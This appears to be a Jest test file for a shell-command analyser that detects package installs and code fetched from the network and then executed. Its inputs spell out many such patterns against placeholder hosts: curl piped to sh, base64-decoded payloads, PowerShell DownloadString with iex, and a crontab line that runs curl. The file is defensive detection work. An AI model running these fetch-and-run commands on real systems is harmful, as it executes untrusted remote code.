import { describe, expect, test } from '@jest/globals';
import { createShellReader } from '../../src/languages/shell/index.js';
import { pythonReader } from '../../src/languages/python/index.js';
import { plainSource } from '../../src/parsers/source-text.js';
import type { Fact } from '../../src/types.js';
import { factsOf, unlimitedBudget, regionOf } from '../helpers/contract.js';

const shellReader = createShellReader(pythonReader);

const read = (text: string): readonly Fact[] => [...shellReader.read(plainSource(text), unlimitedBudget())];
const commands = (text: string): string[] =>
  factsOf(read(text), 'command').map(({ program, argv }) => [program, ...argv].join(' '));
const packages = (text: string): string[] =>
  factsOf(read(text), 'package').map(({ name, specifier, origin }) => `${name}${specifier} ${origin}`);

describe('the program that really runs', () => {
  test.each([
    ['pip3 install a', 'pip install a'],
    ['pip install -Uqi http://a.io -fhttp://b.io a', 'pip install -U -q -i http://a.io -f http://b.io a'],
    ['/usr/bin/pip3.11 install a', 'pip install a'],
    ['python -m pip install a', 'pip install a'],
    ['python3.11 -u -m pip install a', 'pip install a'],
    ['python3 -mpip install a', 'pip install a'],
    ['python3 -Im pip install a', 'pip install a'],
    ['busybox wget a', 'wget a'],
    ['{sys.executable} -m pip install a', 'pip install a'],
    ['"{sys.executable}" -m pip install a', 'pip install a'],
    ['$PYTHON -m pip install a', 'pip install a'],
    ['uv pip install a', 'pip install a'],
    ['uv --quiet pip install a', 'pip install a'],
    ['sudo -H -u root pip install a', 'pip install a'],
    ['env -u X PIP_NO_CACHE=1 pip install a', 'export PIP_NO_CACHE=1,pip install a'],
    [
      'PIP_INDEX_URL=https://example.com pip install a',
      'export PIP_INDEX_URL=https://example.com,pip install a',
    ],
    ['sudo env A=1 nohup timeout -k 5 10 pip install a', 'export A=1,pip install a'],
    ['if true; then pip install a; fi', 'true,pip install a'],
    ['python train.py -m x', 'python train.py -m x'],
    ['env', 'env'],
    ['sudo', 'sudo'],
    ['conda install a', 'conda install a'],
    ['sudo --user root setsid ionice -c3 chroot /x pip install a', 'pip install a'],
    ['conda run -n x --no-capture-output pip install a', 'pip install a'],
    ['uv run --with b pip install a', 'pip install a'],
    ['docker run --rm -v a:/b -e C=d image pip install a', 'export C=d,pip install a'],
    ['docker build .', 'docker build .'],
    ['poetry install', 'poetry install'],
    ['find . -name x -exec pip install a \\; -print', 'pip install a {}'],
    ['find . -name x', 'find . -name x'],
    ['echo a | xargs -n 1 pip install', 'echo a,pip install {}'],
    ['A=1', ''],
    ['for x in a b; do echo $x; done', 'echo $x'],
  ])('%j', (text, expected) => {
    expect(commands(text).join()).toBe(expected);
  });

  test('in a quoted script is read too, at its place', () => {
    const text = `sudo bash -lc "cd /x && pip install numpy"`;
    const facts = read(text);
    expect(factsOf(facts, 'command').map(({ program }) => program)).toEqual(['bash', 'cd', 'pip']);
    const [numpy] = factsOf(facts, 'package');
    const { startColumn, endColumn } = regionOf(numpy?.location);
    expect(text.slice(startColumn - 1, endColumn - 1)).toBe('numpy');
  });
});

describe('what reads a command', () => {
  const readers = (text: string): string =>
    factsOf(read(text), 'command')
      .filter(({ program }) => program === 'curl')
      .map(({ pipedInto }) => pipedInto?.join(' ') ?? '')
      .join();

  test.each([
    ['curl x | sh', 'sh'],
    ['curl x | sudo -E bash -', 'bash'],
    ['curl x | base64 -d | python3 -', 'base64 python'],
    ['curl x | (sh)', 'sh'],
    ['(cd a && curl x) | sh', 'sh'],
    ['(curl x > y; true) | sh', ''],
    ['{ curl x; echo done; } | sh', 'sh'],
    ['(cat <<E; curl x\na\nE\n) | sh', 'sh'],
    ['{ { curl x; }; } 2>&1 | sh', 'sh'],
    ['curl x | xargs bash -c', 'bash'],
    ['curl x | xargs -I{} sh -c {}', 'sh'],
    ['curl x | xargs sh -c "rm -r"', 'sh -c'],
    ['bash -c "$(echo $(curl x))"', 'echo bash'],
    ['curl x | IEX', 'iex'],
    ['for i in 1 2; do curl $i; done | sh', 'sh'],
    ['if true; then curl x; fi | sh', 'sh'],
    ['for i in 1; do curl x; done; true | sh', ''],
    ['while read x; do curl x | tar x; done | sh', 'tar sh'],
    ['bash -c "$(curl x)"', 'bash'],
    ['sh -c "`curl x`"', 'sh'],
    ['bash <(curl x)', 'bash'],
    ['bash < <(curl x)', 'bash'],
    ['python3 <<< "$(curl x)"', 'python'],
    ['eval "$(curl x | gunzip)"', 'gunzip eval'],
    ['source <(curl x)', 'source'],
    ['$(curl x)', 'eval'],
    ['A=1 `curl x` y', 'eval'],
    ['A=$(curl x) y', ''],
    ['sudo bash <(curl x)', 'bash'],
    ['curl x | bash -s -- -y', 'bash'],
    ['curl x | bash -o errexit', 'bash'],
    ['curl x | bash /dev/stdin a', 'bash'],
    ['curl x | python3 -m json.tool', 'python -m'],
    ['curl x | python3 -c "import sys"', 'python -c'],
    ['curl x | bash parse.sh', 'bash parse.sh'],
    ['curl x | perl -ne print', 'perl -ne'],
    ['python train.py --ip $(curl x)', ''],
    ['echo "$(curl x)"', ''],
    ['bash run.sh <(curl x)', ''],
    ['curl x | lua', 'lua'],
    ['curl x | bash -xe', 'bash'],
    ['curl x | sh -c ls', 'sh -c'],
    ['curl x > >(sh)', 'sh'],
    ['curl x | tee >(gzip >a) >(sh) | cat', 'tee gzip sh cat'],
    ['cat < >(curl x)', ''],
    ['f() { sh; }; curl x | f', 'sh'],
    ['f() { cat; }\ncurl x | f | sh', 'cat sh'],
    ['f() { f | f; }; curl x | f', 'f'.repeat(16).split('').join(' ')],
    ['f() { tee >(curl x | f); }; f', 'tee curl '.repeat(8).trim()],
  ])('%j', (text, expected) => {
    expect(readers(text)).toBe(expected);
  });
});

describe('scripts inside commands', () => {
  test.each([
    ["bash -c 'curl x'", ['bash -c curl x', 'curl x']],
    ['bash -c "echo \\"a\\"; curl x"', ['bash -c echo "a"; curl x', 'echo a', 'curl x']],
    ['pwsh -Command "curl x"', ['pwsh -Command curl x', 'curl x']],
    ['sh <<E\ncurl x\nE\nls', ['sh <<E', 'curl x', 'ls']],
    ["cat <<'E' | sudo bash -s\ncurl x\nE", ['cat <<E', 'curl x', 'bash -s']],
    ['cat > a.sh <<E\ncurl x\nE', ['cat >a.sh <<E', 'curl x']],
    ['cat > a.txt <<E\ncurl x\nE', ['cat >a.txt <<E']],
    ['bash a.sh <<E\ncurl x\nE', ['bash a.sh <<E']],
    ["bash <<< 'curl x'", ['bash <<<curl x', 'curl x']],
    ["python <<E\nprint('curl x')\nE", ['python <<E']],
    ["eval 'curl x'", ['eval curl x', 'curl x']],
    ["trap 'curl x' EXIT", ['trap curl x EXIT', 'curl x']],
    ["alias a='curl x'", ['alias a=curl x', 'curl x']],
    ["ssh -q host 'curl x'", ['ssh -q host curl x', 'curl x']],
    ["su - root -c 'curl x'", ['su - root -c curl x', 'curl x']],
    ["parallel 'curl {}' ::: x", ['parallel curl {} ::: x', 'curl {}']],
    ['cmd /c "curl x"', ['cmd /c curl x', 'curl x']],
    ["find . -exec sh -c 'curl x' \\;", ['sh -c curl x {}', 'curl x']],
    ['powershell "curl x"', ['powershell curl x', 'curl x']],
    ['pwsh -File a.ps1 "curl x"', ['pwsh -File a.ps1 curl x']],
    ["echo -e 'ls\\ncurl x' | sh", ['echo -e ls\\ncurl x', 'ls', 'curl x', 'sh']],
    ["printf '%s\\n' 'curl x' | cat | bash", ['printf %s\\n curl x', 'curl x', 'cat', 'bash']],
    ['echo curl x | grep x', ['echo curl x', 'grep x']],
    ["echo 'curl x' | bash run.sh", ['echo curl x', 'bash run.sh']],
    [
      "(crontab -l; echo '0 5 * * 1-5 curl x') | crontab -",
      ['crontab -l', 'echo 0 5 * * 1-5 curl x', 'curl x', 'crontab -'],
    ],
    ['echo Y3VybCBodHRwOi8v | base64 -d | sh', ['echo Y3VybCBodHRwOi8v', 'curl http://', 'base64 -d', 'sh']],
    ['base64 -d <<< Y3VybCBodHRwOi8v | sh', ['base64 -d <<<Y3VybCBodHRwOi8v', 'curl http://', 'sh']],
    ['echo AAECAwQFBgcICQ== | base64 -d | sh', ['echo AAECAwQFBgcICQ==', 'base64 -d', 'sh']],
    ['pwsh -enc YwB1AHIAbAAgAHgA', ['pwsh -enc YwB1AHIAbAAgAHgA', 'base64 -enc YwB1AHIAbAAgAHgA', 'curl x']],
    ['C="curl x"; bash -c "$C"', ['bash -c $C', 'curl x']],
    ['C=curl; $C x | sh', ['$C x', 'curl x', 'sh']],
  ])('%j', (text, expected) => {
    expect(commands(text)).toEqual(expected);
  });

  test.each([
    "echo 'import pickle; pickle.load(f)' | python -",
    'bash -c \'python -c "import pickle; pickle.load(f)"\'',
  ])('of Python in %j', (text) => {
    expect(factsOf(read(text), 'call').map(({ callee }) => callee)).toContain('pickle.load');
  });

  test.each(["python3 -c 'import pickle; pickle.load(f)'", 'python - <<E\nimport pickle\npickle.load(f)\nE'])(
    'are Python in %j',
    (text) => {
      const [call] = factsOf(read(text), 'call');
      expect(call).toMatchObject({ callee: 'pickle.load' });
      const at = call ? regionOf(call.location).offset : 0;
      expect(text.slice(at, at + 14)).toBe('pickle.load(f)');
    },
  );

  test('come to an end', () => {
    let text = 'curl x';
    for (let depth = 0; depth < 6; depth++) text = `bash <<E${depth}\n${text}\nE${depth}`;
    expect(commands(text)).toHaveLength(5);
  });
});

describe('a download that is run later', () => {
  const runs = (...cells: string[]): string[] => {
    const text = cells.join('\n');
    const starts = cells.map((_, index) => cells.slice(0, index).join('\n').length + (index > 0 ? 1 : 0));
    const facts = shellReader.read({ ...plainSource(text), cells: starts }, unlimitedBudget());
    return factsOf([...facts], 'command').flatMap(({ thenRun, code }) =>
      thenRun === undefined ? [] : [`${thenRun}: ${code}`],
    );
  };
  test.each([
    ['curl -o f https://a.io/x && bash f', 'bash: curl -o f https://a.io/x; bash f'],
    ['curl -sSLO https://a.io/x.sh; sh -e ./x.sh', 'sh: curl -sSLO https://a.io/x.sh; sh -e ./x.sh'],
    ['wget https://a.io/x.sh?raw=1; chmod +x x.sh; ./x.sh', './x.sh'],
    ['wget -qO/tmp/x.py https://a.io/y', ''],
    ['wget -qO /tmp/x.py https://a.io/y; python3 /tmp/x.py -a', 'python'],
    ['wget --output-document=x https://a.io/y; . x', '.: '],
    ['curl https://a.io/y > x; source x', 'source: '],
    ['curl https://a.io/y; bash y', ''],
    ['wget -O- https://a.io/y; bash y', ''],
    ['bash y; wget https://a.io/y', ''],
    ['wget https://a.io/y; sha256sum -c y.sum; bash y', ''],
    ['wget https://a.io/y; python train.py y', ''],
    ['wget https://a.io/y; python -m y', ''],
    ['wget https://a.io/y; cat y', ''],
    ['wget https://a.io/y; sh < y', 'sh: wget https://a.io/y; sh < y'],
    ['wget https://a.io/y; cat y | sed s/a/b/ | sh', 'sh: '],
    ['wget https://a.io/y; eval "$(cat y)"', 'eval: '],
    ['curl https://a.io/y | gunzip > z; bash z', 'bash: '],
    ['curl https://a.io/y | sudo tee -a z; bash z', 'bash: '],
    ['curl https://a.io/y > >(cat); bash y', ''],
    ['wget https://a.io/y; bash z < y', ''],
  ])('%j', (text, expected) => {
    const found = runs(text).join();
    if (expected === '') expect(found).toBe('');
    else expect(found).toContain(expected);
  });

  test('is followed from cell to cell', () => {
    expect(runs('wget https://a.io/x.sh', 'echo "', 'bash x.sh')).toEqual([
      'bash: wget https://a.io/x.sh; bash x.sh',
    ]);
  });
});

describe('what is run apart from its pipeline', () => {
  const run = (text: string): string[] =>
    factsOf(read(text), 'command').flatMap(({ program, pipedInto }) =>
      /^(?:curl|invoke-webrequest)$/.test(program) && pipedInto ? [pipedInto.join(' ')] : [],
    );

  test.each<[string, string[]]>([
    ['x=$(curl u); eval "$x"', ['eval']],
    ['export x=$(curl u)\nbash -c "${x}"', ['bash']],
    ['x=`curl u | gunzip`; echo "$x" | sh', ['gunzip', 'gunzip echo sh']],
    ['x=$(curl u); x=$(date); eval "$x"', []],
    ['x=$(curl u); $x', ['eval']],
    ['x=$(curl u); echo $x; pip install "$x"', []],
    ['f() { curl u; }; f | sh', ['sh']],
    ['function f {\n  ls\n  curl u\n}\nf', []],
    ['function f() { curl u; }; eval "$(f)"', ['eval']],
    ['f() { curl u; }; g() { f; }; g | sh', ['sh']],
    ['f() { f; curl u; }; f | sh', ['sh', 'sh', 'sh', 'sh']],
  ])('%j', (text, expected) => {
    expect(run(text).sort()).toEqual(expected.sort());
  });

  test.each([
    'powershell -c "iex (New-Object Net.WebClient).DownloadString(\'https://a.io\')"',
    "(New-Object Net.WebClient).DownloadString('https://a.io') | iex",
    "iex((New-Object System.Net.WebClient).DownloadString('https://a.io'))",
    'Invoke-Expression (Invoke-WebRequest https://a.io).Content',
    '$s = iwr https://a.io\nls; iex $s.Content',
    "$w = New-Object Net.WebClient; $s = $w.DownloadString('https://a.io'); IEX $s",
    '& ([scriptblock]::Create((irm https://a.io)))',
  ])('in the PowerShell of %j', (text) => {
    expect(run(text)).toEqual(['iex']);
  });

  test.each([
    '$s = iwr https://a.io\niex $t',
    'iwr https://a.io -OutFile x; iex ls',
    "$s = (New-Object Net.WebClient).DownloadString('https://a.io')",
  ])('but not in %j', (text) => {
    expect(run(text)).toEqual([]);
  });
});

describe('packages', () => {
  test.each<[string, string[]]>([
    [
      'pip install torch==2.0 "numpy>=1,<2" scikit_learn',
      ['torch==2.0 index', 'numpy>=1,<2 index', 'scikit-learn index'],
    ],
    ['pip install torch>=2', ['torch index']],
    ['pip install -q -U --index-url https://example.com/simple -r r.txt -c c.txt torch', ['torch index']],
    ['pip install --index-url=https://example.com torch -t /x', ['torch index']],
    ['pip install -e git+https://github.com/a/b.git#egg=b', ['b vcs']],
    ['pip install https://example.com/b-1.0-py3-none-any.whl', ['b url']],
    ['pip --quiet install torch', ['torch index']],
    ['pip install -qr r.txt -Uqq torch', ['torch index']],
    ['pip install -rr.txt -qe git+https://github.com/a/b.git#egg=b', ['b vcs']],
    ['pip download torch > log', ['torch index']],
    ['pip install $A {b} "c=={d}" torch', ['torch index']],
    ['pip uninstall torch', []],
    ['pip freeze', []],
    ['pip install -r requirements.txt', []],
    ['conda install torch', []],
    ['echo pip install torch', []],
    ['pip install torch # numpy', ['torch index']],
  ])('%j', (text, expected) => {
    expect(packages(text)).toEqual(expected);
  });

  test('carry what they are and where', () => {
    const text = 'cd x\npip install "Py.Torch==1.0"';
    const [fact] = factsOf(read(text), 'package');
    expect(fact).toMatchObject({
      name: 'py-torch',
      specifier: '==1.0',
      version: '1.0',
      declaredIn: 'command',
      code: 'Py.Torch==1.0',
      location: { startLine: 2, startColumn: 13, endColumn: 28, offset: 17 },
    });
  });

  test('never show what authorizes in a URL', () => {
    const [fact] = factsOf(read('pip install git+https://user:pass@example.com/a.git'), 'package');
    expect(fact?.code).toBe('git+https://***@example.com/a.git');
  });
});

test('a command stands where it is written, with its whole pipeline as code', () => {
  const text = 'ls\n  sudo curl -s https://example.com/x | sh; ls';
  const [, curl] = factsOf(read(text), 'command');
  expect(curl).toMatchObject({
    program: 'curl',
    argv: ['-s', 'https://example.com/x'],
    code: 'sudo curl -s https://example.com/x | sh',
    location: { startLine: 2, startColumn: 3, endLine: 2, endColumn: 37 },
  });
});

test.each([
  ['if a; then ls; curl b.io/x | sh; fi', 'curl b.io/x | sh'],
  ['if a\nthen ls\n  curl b.io/x | sh\nfi\nls', 'curl b.io/x | sh'],
  ['if a; then curl b.io/x; fi | sh', 'if a; then curl b.io/x; fi | sh'],
])('the code of %j is what is piped', (text, code) => {
  const curl = factsOf(read(text), 'command').find(({ program }) => program === 'curl');
  expect(curl?.code).toBe(code);
});

test('long pipelines and deep scripts come to an end', () => {
  expect(commands('a|'.repeat(5000))).toHaveLength(5000);
  expect(commands(`${'bash -c "'.repeat(500)}ls`).length).toBeGreaterThan(0);
});
